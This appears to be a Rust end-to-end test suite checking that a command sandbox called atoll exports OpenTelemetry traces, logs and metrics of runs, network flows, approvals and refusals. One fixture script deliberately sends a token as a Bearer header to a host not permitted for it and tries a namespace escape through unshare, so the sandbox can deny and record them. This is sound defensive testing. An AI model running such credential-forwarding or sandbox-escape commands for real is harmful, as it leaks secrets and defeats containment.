//! Telemetry for collectors of OpenTelemetry: a real one understands all of it.

use std::fs;
use std::net::TcpListener;
use std::time::Duration;

use e2e::internet::{is_possible, on_servers};
use e2e::{Avoidable, Outcome, Running, World, cache, program_exists, wait_until};
use serde_json::Value;

/// The longest time on a busy machine for anything that might hang.
const SOON: Duration = Duration::from_secs(60);
const ANSWERS: &str = include_str!("telemetry/answers.py");
const PERSON: &str = include_str!("telemetry/person.py");
const SERVERS: &str = include_str!("credentials/servers.py");
/// The key that the servers demand.
const REAL: &str = "ghp_r3alK3yOfTh1sT3stWh1chN0bodyM4yS33in";
const BOUND: &str = r#"
[network]
allow = ["example.com", "other.example"]
ask = ["www.example.com"]

[credential.github]
source = { environment = "GITHUB_TOKEN" }
to = "example.com"
place = { header = "authorization", form = "Bearer {}" }
"#;

/// Starts a collector in Rust that prints what it receives; returns its address, too.
fn collector(world: &World) -> Option<(Running, String)> {
    let wheels = cache().map(|cache| cache.join("pip/wheels"));
    let wheel = wheels.iter().flat_map(fs::read_dir).flatten().flatten();
    let wheel = wheel
        .map(|entry| entry.path())
        .find(|path| path.to_string_lossy().contains("rotel-"));
    let (Some(wheel), true) = (wheel, program_exists("python3")) else {
        world.skip("python3 or the wheel of rotel is missing", Avoidable::Yes);
        return None;
    };
    // A second one has a place of its own.
    let names = ["collector", "collector-2"].map(|name| world.top().join(name));
    let into = names.iter().find(|into| !into.exists()).unwrap();
    let _ = world
        .host("python3")
        .args(["-m", "zipfile", "-e"])
        .args([&wheel, into])
        .run()
        .success();
    let program = into.join("rotel/rotel-agent");
    let _ = world.host("chmod").arg("755").arg(&program).run().success();
    let free = || {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        format!("127.0.0.1:{}", listener.local_addr().unwrap().port())
    };
    let (by_http, by_grpc) = (free(), free());
    let running = world
        .host(&program)
        .args(["start", "--exporter", "blackhole", "--disable-batching"])
        .args(["--debug-log", "traces", "--debug-log", "logs"])
        .args([
            "--debug-log",
            "metrics",
            "--debug-log-verbosity",
            "detailed",
        ])
        .args(["--otlp-http-endpoint", &by_http])
        .args(["--otlp-grpc-endpoint", &by_grpc])
        .start();
    wait_until("the collector listens", SOON, || {
        std::net::TcpStream::connect(&by_http).ok()
    });
    Some((running, format!("http://{by_http}")))
}

fn sent(world: &World, arguments: &[&str]) -> Outcome {
    let line = ["ledger", "export"].iter().chain(arguments);
    world.atoll(line).run()
}

#[test]
fn a_collector_is_told_of_runs_flows_and_refusals_once() {
    let world = World::new("a_collector_is_told_of_runs_flows_and_refusals_once");
    let Some((collector, address)) = collector(&world) else {
        return;
    };
    let _ = world
        .atoll(["run", "--discard", "--", "true"])
        .run()
        .success();
    let secret = "argument-that-nobody-is-told";
    let script = format!(": {secret}; getent hosts elsewhere.example; exit 3");
    let ended = world
        .atoll([
            "run",
            "--discard",
            "--session",
            "mending",
            "--allow",
            "api.example",
        ])
        .args(["--", "sh", "-c", &script])
        .run();
    assert_eq!(ended.code(), 3, "{ended}");
    let told = sent(&world, &["--otlp", &address, "--unsealed"]).success();
    assert!(
        told.err().contains(" events sent to http://127.0.0.1"),
        "{told}"
    );
    let seen = collector.until_stdout("atoll.run.duration");
    for expected in [
        "service.name: Str(atoll)",
        "execute_tool true",
        "execute_tool sh",
        "gen_ai.operation.name: Str(execute_tool)",
        "gen_ai.tool.name: Str(sh)",
        "gen_ai.conversation.id: Str(s-",
        "process.exit.code: Int(3)",
        "atoll.decision",
        "server.address: Str(elsewhere.example)",
        "error.type: Str(denied)",
        "atoll.runs",
        "atoll.flows",
    ] {
        assert!(seen.contains(expected), "{expected}: {seen}");
    }
    assert!(!seen.contains(secret), "{seen}");
    // What program it was is sealed: only whoever wants it told tells it.
    let (sealing, sealed_at) = self::collector(&world).unwrap();
    let _ = sent(&world, &["--otlp", &sealed_at]).success();
    let sealed = sealing.until_stdout("atoll.run.duration");
    assert!(sealed.contains("execute_tool"), "{sealed}");
    assert!(
        !sealed.contains("execute_tool sh") && !sealed.contains("Str(sh)"),
        "{sealed}"
    );
    assert!(sealed.contains("process.exit.code: Int(3)"), "{sealed}");
    // Each once, whoever asks again; all of it only where that is meant.
    let told = sent(&world, &["--otlp", &address]).success();
    assert!(told.err().contains("0 events sent"), "{told}");
    let told = sent(&world, &["--otlp", &address, "--again"]).success();
    assert!(!told.err().contains(" 0 events sent"), "{told}");
    // What happens later is told while it happens.
    let following = world
        .atoll([
            "ledger",
            "export",
            "--follow",
            "--unsealed",
            "--otlp",
            &address,
        ])
        .start();
    let _ = world
        .atoll(["run", "--discard", "--", "printf", "later"])
        .run()
        .success();
    let _ = collector.until_stdout("execute_tool printf");
    following.signal(rustix::process::Signal::TERM);
    let _ = following.wait();
    collector.signal(rustix::process::Signal::KILL);
    let _ = collector.wait();
}

/// Starts a server that answers with these statuses; returns its address, too.
fn answering(world: &World, statuses: &[&str]) -> (Running, String) {
    let server = world.host("python3").args(["-c", ANSWERS]).args(statuses);
    let running = server.start();
    let said = running.until_stdout("\n");
    let port = said.trim().trim_start_matches("port ").to_owned();
    (running, format!("http://127.0.0.1:{port}"))
}

#[test]
fn what_a_collector_does_not_take_is_sent_again_and_never_lost() {
    let world = World::new("what_a_collector_does_not_take_is_sent_again_and_never_lost");
    if !program_exists("python3") {
        return world.skip("there is no python3", Avoidable::Yes);
    }
    let _ = world
        .atoll(["run", "--discard", "--", "true"])
        .run()
        .success();
    // One that is busy is asked again, with the same.
    let (server, address) = answering(&world, &["503", "503", "200"]);
    let key = ("OTEL_EXPORTER_OTLP_HEADERS", "x-key=k3y");
    let export = world.atoll(["ledger", "export", "--otlp", &address]);
    let told = export.env(key.0, key.1).run().success();
    assert!(told.err().contains("does not take it yet"), "{told}");
    server.signal(rustix::process::Signal::KILL);
    let asked = server.wait();
    let asked = asked.out();
    let asked: Vec<&str> = asked.lines().skip(1).collect();
    assert!(asked.len() >= 5, "{asked:?}");
    assert!(asked[0].starts_with("503 /v1/traces application/json k3y "));
    assert_eq!(asked[0].get(3..), asked[2].get(3..), "{asked:?}");
    // One that takes it never is told once, and what it was not given is kept for it.
    for (status, why) in [
        ("400", "answers 400: \\x1b[31mno such tenant"),
        ("302", "answers 302"),
    ] {
        let (server, address) = answering(&world, &[status]);
        let told = sent(&world, &["--otlp", &address]);
        assert_eq!(told.code(), 125, "{told}");
        assert!(told.err().contains(why), "{told}");
        assert!(!told.err().contains('\u{1b}'), "{told}");
        server.signal(rustix::process::Signal::KILL);
        let asked = server.wait();
        assert_eq!(asked.out().lines().count(), 2, "{asked}");
    }
    for (address, why) in [
        ("127.0.0.1:4318", "neither https:// nor http://"),
        ("http://key@127.0.0.1", "without a user"),
    ] {
        let told = sent(&world, &["--otlp", address]);
        assert_eq!(told.code(), 125, "{told}");
        assert!(told.err().contains(why), "{told}");
    }
    let told = sent(&world, &["--follow"]);
    assert_eq!(told.code(), 125, "{told}");
}

/// Returns the value of an attribute.
fn attribute(of: &Value, key: &str) -> Option<String> {
    let all = of["attributes"].as_array()?;
    let one = all.iter().find(|one| one["key"] == key)?;
    let value = one["value"].as_object()?.values().next()?;
    Some(
        value
            .as_str()
            .map_or_else(|| value.to_string(), str::to_owned),
    )
}

/// Returns everything sent under these names: of resources, of scopes, of items.
fn items(sent: &str, [resources, scopes, name]: [&str; 3]) -> Vec<Value> {
    let messages = sent
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap());
    let mut all = Vec::new();
    for message in messages {
        for resource in message[resources].as_array().into_iter().flatten() {
            for scope in resource[scopes].as_array().into_iter().flatten() {
                all.extend(scope[name].as_array().into_iter().flatten().cloned());
            }
        }
    }
    all
}

/// Makes a run that reaches a host, asks about another, is refused a third, sends a placeholder
/// where it does not belong, and tries to break out; and another run of its session.
fn told_of_everything(world: &World) -> String {
    world.profile("bound", BOUND);
    world.write(world.top().join("real"), REAL);
    world.canary(REAL, &["real"]);
    world.write(world.top().join("person.py"), PERSON);
    let curl = "curl -sS -m 60 --noproxy '*' -H \"Authorization: Bearer $GITHUB_TOKEN\"";
    let plain = "curl -sS -m 60 --noproxy '*'";
    let inside = format!(
        "{curl} https://example.com/v1/one; {curl} http://other.example/v1/elsewhere; \
         {plain} http://www.example.com/asked; {plain} http://unnamed.example/; \
         python3 -c 'import ctypes; ctypes.CDLL(None).unshare(0x20000)'; true"
    );
    world.write(world.top().join("inside.sh"), inside);
    let top = world.top().display().to_string();
    let outside = format!(
        "python3 '{top}/person.py' & GITHUB_TOKEN=$(cat '{top}/real'); export GITHUB_TOKEN\n\
         \"$ATOLL\" run --discard --session mending --profile bound -- sh -c \"$(cat '{top}/inside.sh')\"\n\
         wait; \"$ATOLL\" run --discard --session mending -- true"
    );
    world.write(world.top().join("outside.sh"), outside);
    let command = format!("sh '{top}/outside.sh'");
    let names = ["example.com", "other.example"];
    let run = on_servers(world, SERVERS, &names, &command).within(Duration::from_secs(180));
    let outcome = run.run().success();
    assert!(outcome.out().contains("welcome"), "{outcome}");
    let record = world.top().join("record");
    let server = world.host("python3").args(["-c", ANSWERS, "200"]);
    let server = server.env("RECORD", &record).start();
    let said = server.until_stdout("\n");
    let port = said.trim().trim_start_matches("port ").to_owned();
    let address = format!("http://127.0.0.1:{port}");
    let _ = sent(world, &["--otlp", &address, "--unsealed"]).success();
    server.signal(rustix::process::Signal::KILL);
    let _ = server.wait();
    fs::read_to_string(record).unwrap()
}

#[test]
fn a_session_is_one_trace_of_runs_flows_questions_and_attempts() {
    let world = World::new("a_session_is_one_trace_of_runs_flows_questions_and_attempts");
    if !is_possible(&world, &["openssl"]) {
        return;
    }
    let sent = told_of_everything(&world);
    assert!(!sent.contains(REAL) && !sent.contains("/v1/one"), "{sent}");
    let spans = items(&sent, ["resourceSpans", "scopeSpans", "spans"]);
    let is_run = |span: &&Value| span["parentSpanId"].as_str().is_none_or(str::is_empty);
    let runs: Vec<&Value> = spans.iter().filter(is_run).collect();
    assert_eq!(runs.len(), 2, "{spans:#?}");
    let run = runs.iter().find(|run| run["name"] == "execute_tool sh");
    let run = run.unwrap_or_else(|| panic!("{runs:#?}"));
    for span in &spans {
        assert_eq!(span["traceId"], run["traceId"], "{span:#}");
        assert_eq!(span["traceId"].as_str().unwrap().len(), 32);
        assert_eq!(span["spanId"].as_str().unwrap().len(), 16);
    }
    let beneath = |host: &str| -> Vec<&Value> {
        let is_there = |span: &&Value| attribute(span, "server.address").as_deref() == Some(host);
        let found: Vec<&Value> = spans.iter().filter(is_there).collect();
        assert!(!found.is_empty(), "{host}: {spans:#?}");
        for span in &found {
            assert_eq!(span["parentSpanId"], run["spanId"], "{span:#}");
        }
        found
    };
    let has = |spans: &[&Value], key: &str, value: &str| {
        let is_one = |span: &&Value| attribute(span, key).as_deref() == Some(value);
        spans.iter().copied().find(is_one).cloned()
    };
    let opened = beneath("example.com");
    let request = has(&opened, "http.response.status_code", "200");
    let request = request.unwrap_or_else(|| panic!("{opened:#?}"));
    assert_eq!(attribute(&request, "http.request.method").unwrap(), "GET");
    assert_eq!(attribute(&request, "error.type"), None);
    let asked = beneath("www.example.com");
    let question = has(&asked, "atoll.approval.answer", "granted");
    assert_eq!(question.unwrap()["name"], "atoll.approval");
    assert!(asked.len() > 1, "{asked:#?}");
    // A placeholder that went elsewhere has a technique; a host that no rule names has none.
    let technique = "atoll.atlas.technique";
    let elsewhere = beneath("other.example");
    let misused = has(&elsewhere, technique, "AML.T0025");
    let misused = misused.unwrap_or_else(|| panic!("{elsewhere:#?}"));
    assert_eq!(attribute(&misused, "error.type").unwrap(), "denied");
    for span in beneath("unnamed.example") {
        assert_eq!(attribute(span, "error.type").unwrap(), "denied");
        assert_eq!(attribute(span, technique), None);
    }
    let events = run["events"].as_array().unwrap();
    let attempt = events.iter().find(|event| event["name"] == "atoll.attempt");
    let attempt = attempt.unwrap_or_else(|| panic!("{run:#}"));
    assert_eq!(attribute(attempt, "atoll.wall").unwrap(), "namespaces");
    assert_eq!(attribute(attempt, technique).unwrap(), "AML.T0105");
    let logs = items(&sent, ["resourceLogs", "scopeLogs", "logRecords"]);
    for kind in [
        "approval.asked",
        "approval.granted",
        "attempt.seen",
        "flow.opened",
    ] {
        let of_kind = |log: &&Value| log["eventName"] == format!("atoll.{kind}");
        let log = logs.iter().find(of_kind);
        let log = log.unwrap_or_else(|| panic!("{kind}: {logs:#?}"));
        assert_eq!(
            (&log["traceId"], &log["spanId"]),
            (&run["traceId"], &run["spanId"])
        );
    }
}

#[test]
fn calls_of_tools_are_told_in_the_words_of_mcp() {
    let world = World::new("calls_of_tools_are_told_in_the_words_of_mcp");
    let Some((collector, address)) = collector(&world) else {
        return;
    };
    let tools = "[tool.say]\ndescription = \"Says it.\"\nkind = \"command\"\n\
                 command = [\"echo\", \"{text}\"]\neffect = \"read\"\n\
                 [tool.say.arguments.properties.text]\ntype = \"string\"\n";
    world.write(world.config().join("atoll/tools.toml"), tools);
    let secret = "argument-that-nobody-is-told";
    let call = |text: &str| world.atoll(["tools", "call", "say"]).arg(text).run();
    let _ = call(&format!("text={secret}")).success();
    let _ = call("other=1").expect_status(125);
    let _ = sent(&world, &["--otlp", &address, "--unsealed"]).success();
    let seen = collector.until_stdout("mcp.server.operation.duration");
    for expected in [
        "tools/call say",
        "mcp.method.name: Str(tools/call)",
        "gen_ai.tool.name: Str(say)",
        "atoll.tool.effect: Str(read)",
        "atoll.outcome: Str(done)",
        "error.type: Str(rejected)",
        "atoll.runs",
    ] {
        assert!(seen.contains(expected), "{expected}: {seen}");
    }
    assert!(!seen.contains(secret), "{seen}");
    // The run of its sandbox is a part of the call.
    let ids = |name: &str| -> Vec<String> {
        let lines = seen.lines().map(str::trim);
        let own = lines.filter_map(|line| line.strip_prefix(name)?.trim().strip_prefix(':'));
        own.map(|id| id.trim().to_owned()).collect()
    };
    let parents = ids("Parent ID");
    let is_there = |parent: &String| !parent.is_empty() && ids("ID").contains(parent);
    assert!(parents.iter().any(is_there), "{seen}");
}
